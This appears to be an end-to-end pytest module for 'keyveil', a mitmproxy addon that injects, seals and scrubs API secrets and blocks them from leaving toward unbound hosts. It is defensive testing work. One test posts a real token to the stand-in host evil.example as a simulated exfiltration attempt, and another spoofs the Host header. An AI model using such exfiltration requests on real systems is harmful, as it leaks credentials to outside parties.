"""keyveil end to end: a real mitmdump running the addon, real clients, a real TLS upstream.

Each invariant of SPEC §1 has at least one test here that fails if it breaks:
I1 seal (provider traffic), I2 bind (inject only where bound, block elsewhere),
I3 scrub (responses, SSE, WebSocket), I4 fail closed, I5 quiet (outputs grepped).
"""

from __future__ import annotations

import base64
import gzip
import json
import secrets
import subprocess
import time
from urllib.parse import quote

import httpx
import pytest
from mitmproxy.net import encoding

from tests import infra
from tests.infra import wsclient
from tests.conftest import keyveil, keyveil_proxy, make_home

pytestmark = pytest.mark.timeout(90)


def curl(proxy, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        ["curl", "-sS", "--max-time", "20", "--cacert", str(proxy.ca_cert), "-x", proxy.url, *args],
        capture_output=True,
        timeout=30,
        env=proxy.client_env(),
    )


def client(proxy, http2: bool = False) -> httpx.Client:
    verify = infra.client_ssl_context(proxy.ca_cert, h2_first=http2)
    return httpx.Client(proxy=proxy.url, verify=verify, http2=http2, trust_env=False, timeout=20)


def received_body(rec) -> bytes:
    ce = rec.header("content-encoding")
    return encoding.decode(rec.body, ce) if ce else rec.body


def assert_no_value(data: bytes, kv) -> None:
    for form in kv.forms():
        assert form not in data


# --- I2: inject where bound, block elsewhere ------------------------------------------


def test_reference_injected_in_bound_header_and_echo_scrubbed(proxy, up, kv):
    pat = kv.values["github/pat"]
    r = curl(proxy, "-i", "-H", "Authorization: Bearer {{secret:github/pat}}", "https://api.github.com/echo")
    assert r.returncode == 0, r.stderr
    (rec,) = up.requests
    assert rec.header("authorization") == "Bearer " + pat.decode()
    # I3: the echo (header and body) comes back as the reference
    assert pat not in r.stdout
    echoed = [line for line in r.stdout.split(b"\r\n") if line.lower().startswith(b"x-echo-authorization:")]
    assert echoed == [b"x-echo-authorization: Bearer {{secret:github/pat}}"]
    assert b"{{secret:github/pat}}" in r.stdout.split(b"\r\n\r\n", 2)[-1]


def test_reference_toward_unbound_host_is_blocked(proxy, up, kv):
    r = curl(proxy, "-i", "-H", "Authorization: Bearer {{secret:github/pat}}", "https://api.gitlab.com/echo")
    assert up.requests == []
    assert b" 403" in r.stdout.split(b"\r\n\r\n")[1].split(b"\r\n")[0]
    assert b"x-keyveil-block: unbound_reference" in r.stdout.lower()
    body = json.loads(r.stdout.rsplit(b"\r\n\r\n", 1)[1])
    assert body["error"]["code"] == "unbound_reference"
    assert "api.gitlab.com" in body["error"]["message"] and "github/pat" in body["error"]["message"]


def test_value_toward_unbound_host_is_blocked(proxy, up, kv):
    pat = kv.values["github/pat"]
    with client(proxy) as c:
        r = c.post("https://evil.example/echo", json={"note": "exfil " + pat.decode()})
    assert r.status_code == 403
    assert r.headers["x-keyveil-block"] == "plaintext_egress"
    assert pat not in r.content
    assert up.requests == []


def test_reference_in_header_not_bound_is_not_injected(proxy, up, kv):
    r = curl(proxy, "-H", "X-Note: {{secret:github/pat}}", "https://api.github.com/echo")
    assert r.returncode == 0
    (rec,) = up.requests
    assert rec.header("x-note") == "{{secret:github/pat}}"


def test_query_path_and_json_body_injection(proxy, up, kv):
    tok = kv.values["gitlab/token"]
    with client(proxy, http2=True) as c:
        r = c.post(
            "https://gitlab.test.keyveil/echo/%7B%7Bsecret%3Agitlab%2Ftoken%7D%7D",
            params={"private_token": "{{secret:gitlab/token}}"},
            json={"token": "{{secret:gitlab/token}}"},
        )
    assert r.status_code == 200
    (rec,) = up.requests
    assert rec.http_version == "2"
    assert rec.path == f"/echo/{quote(tok, safe='')}?private_token={quote(tok, safe='')}"
    assert json.loads(rec.body) == {"token": tok.decode()}
    assert tok not in r.content  # the echo was scrubbed


def test_plain_http_is_never_injected(proxy, up, kv):
    r = curl(proxy, "-i", "-H", "Authorization: token {{secret:http/token}}", "http://example.com/echo")
    assert b"x-keyveil-block: insecure_scheme" in r.stdout.lower()
    assert up.requests == []


def test_git_ls_remote_with_reference_in_basic_credentials(proxy, up, kv, tmp_path):
    pat = kv.values["github/pat"].decode()
    up.set_git_credentials("x-access-token", pat)
    env = {**proxy.client_env(), "HOME": str(tmp_path), "GIT_CONFIG_NOSYSTEM": "1", "GIT_TERMINAL_PROMPT": "0"}
    url = "https://x-access-token:" + quote("{{secret:github/pat}}", safe="") + "@github.com/owner/repo.git"
    out = subprocess.run(
        ["git", "-c", f"http.proxy={proxy.url}", "ls-remote", url], capture_output=True, text=True, timeout=30, env=env
    )
    assert out.returncode == 0, out.stderr
    assert "refs/heads/main" in out.stdout
    authorized = [r for r in up.requests if r.header("authorization")]
    assert authorized[-1].header("authorization") == "Basic " + base64.b64encode(f"x-access-token:{pat}".encode()).decode()
    assert pat not in out.stdout + out.stderr


def test_node_client_gets_injection_and_scrub(proxy, up, kv):
    res = infra.node_request(
        proxy.url,
        "https://api.anthropic.com/echo",
        method="POST",
        headers={"x-api-key": "{{secret:anthropic/key}}", "content-type": "application/json"},
        body=b'{"model": "m"}',
        env=proxy.client_env(),
    )
    assert res["status"] == 200
    (rec,) = up.requests
    assert rec.header("x-api-key") == kv.values["anthropic/key"].decode()
    assert kv.values["anthropic/key"] not in res["body"]


# --- I1: seal provider traffic ------------------------------------------------------------


@pytest.mark.parametrize("enc", [None, "gzip", "deflate", "br", "zstd"])
@pytest.mark.parametrize("http2", [False, True])
def test_values_in_every_form_are_sealed_toward_a_provider(proxy, up, kv, enc, http2):
    pat, tok = kv.values["github/pat"], kv.values["gitlab/token"]
    text = (
        f"env says GITHUB_TOKEN={pat.decode()} and "
        f"basic {base64.b64encode(b'me:' + pat).decode()} and url ?t={quote(tok, safe='')}"
    )
    body = json.dumps({"messages": [{"role": "user", "content": text}], "esc": tok.decode().replace("/", "\\/")}).encode()
    headers = {"content-type": "application/json", "x-api-key": "{{secret:anthropic/key}}"}
    if enc:
        body = encoding.encode(body, enc)
        headers["content-encoding"] = enc
    with client(proxy, http2) as c:
        r = c.post("https://api.anthropic.com/v1/messages", content=body, headers=headers)
    assert r.status_code == 200
    (rec,) = up.requests
    assert rec.header("content-encoding") == enc
    sent = received_body(rec)
    doc = json.loads(sent)
    assert "{{secret:github/pat}}" in doc["messages"][0]["content"]
    assert base64.b64decode(doc["messages"][0]["content"].split("basic ")[1].split()[0]) == b"me:{{secret:github/pat}}"
    for name in ("github/pat", "gitlab/token"):
        assert kv.values[name] not in sent
        assert quote(kv.values[name], safe="").encode() not in sent
    assert_no_value(up.all_bytes().replace(kv.values["anthropic/key"], b""), type("K", (), {"forms": lambda s: [pat, tok]})())
    assert rec.header("x-api-key") == kv.values["anthropic/key"].decode()


def test_unchanged_body_is_forwarded_byte_for_byte(proxy, up):
    body = gzip.compress(b'{"messages": [{"content": "nothing secret here"}]}', mtime=12345)
    with client(proxy) as c:
        c.post("https://api.openai.com/v1/responses", content=body, headers={"content-encoding": "gzip"})
    assert up.requests[0].body == body


def test_large_body_goes_through_the_stream_sealer(proxy, up, kv):
    pat = kv.values["github/pat"]
    filler = b"x" * (3 * (1 << 20))
    # the value straddles 64 KiB boundaries the client will write in
    body = filler[: 65536 - 10] + pat + filler + pat
    with client(proxy) as c:
        r = c.post("https://api.openai.com/v1/files", content=body)
    assert r.status_code == 200
    (rec,) = up.requests
    assert pat not in rec.body
    assert rec.body.count(b"{{secret:github/pat}}") == 2


# --- I3: scrub responses ---------------------------------------------------------------------


@pytest.mark.parametrize("http2", [False, True])
def test_sse_is_streamed_and_a_split_value_is_scrubbed(proxy, up, kv, http2):
    pat = kv.values["github/pat"]
    events = [b'data: {"t": "one"}\n\n', b'data: {"t": "leak ' + pat[:9], pat[9:] + b'"}\n\n', b"data: [DONE]\n\n"]
    up.set_sse(events, delay_between_chunks=0.4)
    arrivals, body = [], b""
    with client(proxy, http2) as c:
        with c.stream("GET", "https://api.github.com/sse", headers={"authorization": "Bearer {{secret:github/pat}}"}) as r:
            for chunk in r.iter_raw():
                arrivals.append((time.monotonic(), chunk))
                body += chunk
    assert body == b'data: {"t": "one"}\n\ndata: {"t": "leak {{secret:github/pat}}"}\n\ndata: [DONE]\n\n'
    sent = up.chunk_times("/sse")
    first_event_at = next(t for t, _ in arrivals)
    assert first_event_at < sent[-1] - 0.5, "the first event waited for the end of the stream"


@pytest.mark.parametrize("enc", ["gzip", "deflate", "br", "zstd"])
def test_compressed_response_is_scrubbed(proxy, up, kv, enc):
    pat = kv.values["github/pat"]
    up.set_response("/respond", 200, {"content-type": "text/plain"}, [b"your token: " + pat[:5], pat[5:] + b" ok"], 0.05, enc)
    r = curl(proxy, "--compressed", "https://api.github.com/respond")
    assert r.returncode == 0, r.stderr
    assert r.stdout == b"your token: {{secret:github/pat}} ok"


def test_undecodable_response_is_blocked(proxy, up, kv):
    up.set_response("/respond", 200, {"content-type": "text/plain", "content-encoding": "x-snappy"}, [b"opaque"], 0)
    r = curl(proxy, "-i", "https://api.github.com/respond")
    assert b"x-keyveil-block: undecodable_body" in r.stdout.lower()
    assert b"opaque" not in r.stdout


def test_websocket_both_ways(proxy, up, kv):
    tok, pat = kv.values["ws/token"], kv.values["github/pat"]
    up.set_ws_greeting("server says " + pat.decode())
    ssl_ctx = infra.client_ssl_context(proxy.ca_cert)
    with wsclient.connect("wss://ws.test.keyveil/ws", proxy=proxy.url, ssl=ssl_ctx, open_timeout=10) as ws:
        greeting = ws.recv(timeout=5)
        ws.send('{"auth": "{{secret:ws/token}}"}')
        echo = ws.recv(timeout=5)
    assert greeting == "server says {{secret:github/pat}}"
    client_msgs = [m.data for m in up.ws_messages if m.direction == "client"]
    assert client_msgs == ['{"auth": "' + tok.decode() + '"}']
    assert tok.decode() not in echo and "{{secret:ws/token}}" in echo


def test_websocket_to_provider_is_sealed(proxy, up, kv):
    pat = kv.values["github/pat"]
    ssl_ctx = infra.client_ssl_context(proxy.ca_cert)
    with wsclient.connect("wss://api.openai.com/ws", proxy=proxy.url, ssl=ssl_ctx, open_timeout=10) as ws:
        ws.send(json.dumps({"type": "response.create", "input": "token " + pat.decode()}))
        ws.recv(timeout=5)
    (msg,) = [m.data for m in up.ws_messages if m.direction == "client"]
    assert pat.decode() not in msg and "{{secret:github/pat}}" in msg


# --- I4: fail closed ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "ce,body",
    [("gzip", b"\x1f\x8b not gzip at all"), ("gzip, br", b"whatever"), ("x-unknown", b"whatever")],
)
def test_undecodable_request_body_is_blocked(proxy, up, ce, body):
    with client(proxy) as c:
        r = c.post("https://api.anthropic.com/v1/messages", content=body, headers={"content-encoding": ce})
    assert r.status_code == 502
    assert r.json()["error"]["code"] == "undecodable_body"
    assert r.json()["type"] == "error"  # Anthropic's own envelope
    assert up.requests == []


def test_host_mismatch_is_refused(proxy, up):
    r = curl(proxy, "-i", "--http1.1", "-H", "Host: evil.example", "https://api.github.com/echo")
    assert b"421" in r.stdout.split(b"\r\n\r\n")[1].split(b"\r\n")[0]
    r = curl(proxy, "-i", "-H", "Host: evil.example", "http://example.com/echo")
    assert b"421" in r.stdout.split(b"\r\n")[0]
    assert up.requests == []


def test_engine_fault_blocks_and_nothing_reaches_upstream(kv, upstream, tmp_path):
    """A fault inside the engine (I4): mitmproxy would log it and forward; keyveil blocks."""
    upstream.reset()
    fault = tmp_path / "fault.py"
    fault.write_text(
        "import keyveil._pipeline as p\n"
        "def broken(self, req):\n    raise RuntimeError('injected fault')\n"
        "p.Engine.process_request = broken\n"
    )
    with keyveil_proxy(upstream, tmp_path / "w", kv, before=[fault]) as p:
        r = curl(p, "-i", "-H", "Authorization: Bearer {{secret:github/pat}}", "https://api.github.com/echo")
        out = p.output()
    assert b"x-keyveil-block: internal_error" in r.stdout.lower()
    assert b" 502" in r.stdout.split(b"\r\n\r\n")[1]
    assert upstream.requests == []
    assert "injected fault" not in out  # the exception's text never reaches the log


def test_a_value_set_while_the_proxy_runs_is_sealed_where_it_was_seen_before(upstream, tmp_path):
    """keyveil keeps what it made of headers and paths that come again, for as long as the
    values do not change: a value set while it runs is sealed in the very next request, in
    the same header and path it let through before."""
    setup = make_home(tmp_path)
    late = "".join(secrets.choice("bcdfghjklmnpqrstvwxz") for _ in range(12)).encode()
    headers = {"x-note": "see " + late.decode(), "content-type": "application/json"}
    url = "https://api.anthropic.com/v1/" + late.decode()
    with keyveil_proxy(upstream, tmp_path / "w", setup) as p, client(p) as c:
        upstream.reset()
        for _ in range(2):
            assert c.post(url, content=b"{}", headers=headers).status_code == 200
        assert [(r.path, r.header("x-note")) for r in upstream.requests] == [("/v1/" + late.decode(), "see " + late.decode())] * 2
        r = keyveil(setup.env, "secret", "set", "late/one", stdin=late + b"\n")
        assert r.returncode == 0, r.stderr
        upstream.reset()
        assert c.post(url, content=b"{}", headers=headers).status_code == 200
        (rec,) = upstream.requests
        assert rec.header("x-note") == "see {{secret:late/one}}"
        assert rec.path == "/v1/%7B%7Bsecret%3Alate%2Fone%7D%7D"


def test_misspelled_option_stops_mitmdump(kv, upstream, tmp_path):
    p = keyveil_proxy(upstream, tmp_path, kv, options={"keyveil_rulez": "x"})
    assert p.wait_exit() != 0
    assert "keyveil_rulez" in p.output()


def test_invalid_rules_stop_mitmdump(kv, upstream, tmp_path):
    bad = tmp_path / "rules.yaml"
    bad.write_text("version: 1\nsecrets:\n  x/y:\n    hosts: ['*']\n    inject: [{header: A}]\n")
    p = keyveil_proxy(upstream, tmp_path / "w", kv, options={"keyveil_rules": bad})
    assert p.wait_exit() != 0
    assert f"{bad}:4" in p.output()


def test_stream_large_bodies_never_skips_sealing(kv, upstream, tmp_path):
    """With mitmproxy's stream_large_bodies, a chunked upload of unknown size is
    switched to raw streaming after the headers hook: keyveil must stream it itself."""
    upstream.reset()
    pat = kv.values["github/pat"]

    def chunks():
        yield b"{"  # held back whole by the sealer: must not end the chunked upload
        yield b'"a": "' + b"y" * 5000
        yield pat[:7]
        yield pat[7:] + b'", "b": "' + b"z" * 20000 + b'"}'

    with keyveil_proxy(upstream, tmp_path, kv, options={"stream_large_bodies": "1k"}) as p:
        for http2 in (False, True):
            with client(p, http2) as c:
                r = c.post("https://api.openai.com/v1/responses", content=chunks())
            assert r.status_code == 200
    assert len(upstream.requests) == 2
    for rec in upstream.requests:
        assert pat not in rec.body
        assert b"{{secret:github/pat}}" in rec.body
    assert pat not in upstream.all_bytes()


def test_passthrough_host_is_not_intercepted(upstream, tmp_path):
    """A passthrough host's TLS goes end to end: the client sees the upstream's own certificate."""
    from tests.conftest import RULES, make_home

    setup = make_home(tmp_path, RULES + "passthrough: [raw.test.keyveil]\n")
    upstream.reset()
    with keyveil_proxy(upstream, tmp_path / "w", setup) as p:
        ok = subprocess.run(
            ["curl", "-sS", "--cacert", upstream.ca_pem, "-x", p.url, "https://raw.test.keyveil/echo"],
            capture_output=True, timeout=30,
        )
        intercepted = subprocess.run(
            ["curl", "-sS", "--cacert", upstream.ca_pem, "-x", p.url, "https://api.github.com/echo"],
            capture_output=True, timeout=30,
        )
    assert ok.returncode == 0, ok.stderr  # trusted with the upstream's CA: not intercepted
    assert intercepted.returncode != 0  # keyveil's certificate, unknown to this CA bundle


def test_scrubbed_responses_keep_the_connection_alive(proxy, up):
    """Scrubbing may change a body's length; HTTP/1.1 framing must stay reusable (chunked)."""
    up.set_response("/respond", 200, {"content-type": "text/plain", "content-length": "5"}, [b"hello"], 0)
    url = "https://api.github.com/respond"
    r = curl(proxy, "--http1.1", "-w", " connects=%{num_connects}\n", url, url, url)
    assert r.returncode == 0, r.stderr
    assert r.stdout.count(b"hello") == 3
    assert r.stdout.count(b"connects=0") == 2, r.stdout  # the 2nd and 3rd reuse the connection


def _known_length_responses(pat: bytes) -> list[tuple[str, dict, bytes, bytes]]:
    """(name, headers, wire body, scrubbed decoded body): small and large, plain and gzip, all with a Content-Length."""
    small = b"your token: " + pat + b" ok"
    large = b"x" * 100_000 + b" " + pat + b" " + b"y" * 100
    cases = []
    for name, body in (("small", small), ("large", large)):
        want = body.replace(pat, b"{{secret:github/pat}}")
        cases.append((name, {"content-type": "text/plain", "content-length": str(len(body))}, body, want))
        packed = gzip.compress(body)
        cases.append((name + "-gzip", {"content-type": "text/plain", "content-encoding": "gzip", "content-length": str(len(packed))}, packed, want))
    return cases


@pytest.mark.parametrize("stream_large_bodies", [None, "1"])
def test_responses_of_known_length_are_scrubbed_read_whole_or_streamed(kv, upstream, tmp_path, stream_large_bodies):
    """A small body of known length is read whole (it keeps a Content-Length); a larger one is streamed.
    With stream_large_bodies, mitmproxy marks a body of known length for raw streaming before
    responseheaders: keyveil must stream it itself, never read it whole and forward it raw."""
    pat = kv.values["github/pat"]
    options = {"stream_large_bodies": stream_large_bodies} if stream_large_bodies else {}
    upstream.reset()
    with keyveil_proxy(upstream, tmp_path, kv, options=options) as p:
        for name, headers, wire, want in _known_length_responses(pat):
            upstream.set_response("/respond", 200, headers, [wire], 0)
            for http2 in (False, True):
                with client(p, http2) as c:
                    r = c.get("https://api.github.com/respond")
                assert r.status_code == 200, (name, r.headers.get("x-keyveil-block"))
                assert r.content == want, (name, http2)
                assert pat not in r.content
                small = name.startswith("small") and not stream_large_bodies
                if small and not http2:  # read whole: framed by its (new) length, not chunked
                    assert "transfer-encoding" not in r.headers, name
                    if "gzip" not in name:
                        assert r.headers.get("content-length") == str(len(want)), name


def test_flow_in_flight_at_shutdown_is_stored_sealed(kv, upstream, tmp_path):
    """mitmproxy's save addon writes the flows still in progress when it stops."""
    import threading

    upstream.reset()
    # Holds every response at its headers, before keyveil sees them.
    stall = tmp_path / "stall.py"
    stall.write_text(
        "import asyncio\n"
        "class Stall:\n"
        "    async def responseheaders(self, flow):\n"
        "        await asyncio.sleep(30)\n"
        "addons = [Stall()]\n"
    )
    flows = tmp_path / "flows.mitm"
    p = keyveil_proxy(upstream, tmp_path / "w", kv, before=[stall], flowfile=flows)
    with p:
        def slow_request():
            try:
                with client(p) as c:
                    c.get("https://api.github.com/echo", headers={"authorization": "Bearer {{secret:github/pat}}"})
            except httpx.HTTPError:
                pass

        t = threading.Thread(target=slow_request)
        t.start()
        upstream.wait_for_requests(1, timeout=10)
        assert upstream.requests[0].header("authorization") == "Bearer " + kv.values["github/pat"].decode()
        p.stop()
        t.join(15)
    stored = flows.read_bytes()
    assert b"api.github.com" in stored
    for form in kv.forms():
        assert form not in stored


# --- I5: quiet (runs last in this module: greps everything the proxy wrote) -------------------


def test_zz_no_value_in_any_output(proxy, up, kv):
    """Runs last in this module: on top of what earlier tests sent, one of each
    decision, then every output of the proxy is grepped for every value."""
    pat = kv.values["github/pat"]
    up.set_response("/respond", 200, {"x-leak": pat.decode()}, [b"echo " + pat], 0)
    with client(proxy) as c:
        c.get("https://api.github.com/respond", headers={"authorization": "Bearer {{secret:github/pat}}"})
        c.post("https://api.anthropic.com/v1/messages", content=b'{"t": "' + pat + b'"}')
        c.get("https://api.gitlab.com/x", headers={"authorization": "Bearer " + pat.decode()})
    time.sleep(0.5)
    proxy.stop()
    outputs = [proxy.output().encode(), proxy.flowfile.read_bytes()]
    outputs += [p.read_bytes() for p in (kv.home / "audit").glob("*.jsonl")]
    outputs += kv.outputs
    assert any(b"keyveil" in o for o in outputs)
    assert len(proxy.flowfile.read_bytes()) > 1000
    for data in outputs:
        for form in kv.forms():
            assert form not in data
    audit = [json.loads(line) for p in (kv.home / "audit").glob("*.jsonl") for line in p.read_text().splitlines()]
    assert {"sealed", "injected", "scrubbed", "blocked"} <= {a["action"] for a in audit}
    assert all(set(a) == {"ts", "flow", "client", "method", "host", "path", "action", "names", "counts", "code", "agent"} for a in audit)
